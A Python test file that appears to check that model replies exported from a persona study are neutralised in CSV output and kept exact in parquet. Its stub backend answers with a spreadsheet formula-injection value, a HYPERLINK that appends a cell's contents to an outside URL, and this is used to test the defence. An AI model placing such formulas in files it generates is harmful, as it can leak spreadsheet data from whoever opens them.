"""The files of a result: exact for programs, harmless in a spreadsheet."""

import csv
import io

import pyarrow.parquet as parquet

from persona_collapse.backends import Reply
from persona_collapse.instruments import self_introduction
from persona_collapse.personas import bundled_pool
from persona_collapse.study import Study, read_replies, run_study
from space.asking.runs import Run
from space.desk.job_folder import JobFolder
from space.desk.result_files import _answers

FORMULA = '=HYPERLINK("http://a.org?"&A1)'


class Spreadsheet:
    kind, model, revision = "stub", "stub", ""

    def replies(self, prompts, sampling):
        for place, _ in enumerate(prompts):
            yield place, Reply(text=f"{FORMULA} {place}")

    def count_tokens(self, prompt, sampling):
        return None


def test_what_a_model_wrote_is_no_formula_in_the_csv(tmp_path):
    folder = JobFolder.new(tmp_path, "run", Run("stub", "here", ("self-introduction",), 3))
    study = Study(self_introduction(), bundled_pool(), personas=3)
    run_study(study, Spreadsheet(), folder.run("self-introduction"))
    files = _answers(read_replies(folder.run("self-introduction")))
    assert sorted(files) == ["texts.csv", "texts.parquet"]
    exact = parquet.read_table(io.BytesIO(files["texts.parquet"])).to_pylist()
    shown = list(csv.DictReader(io.StringIO(files["texts.csv"].decode())))
    assert [row["reply"] for row in exact] == [f"{FORMULA} {place}" for place in range(len(exact))]
    assert [row["reply"] for row in shown] == [f"'{FORMULA} {place}" for place in range(len(exact))]
    assert len(exact) >= 3
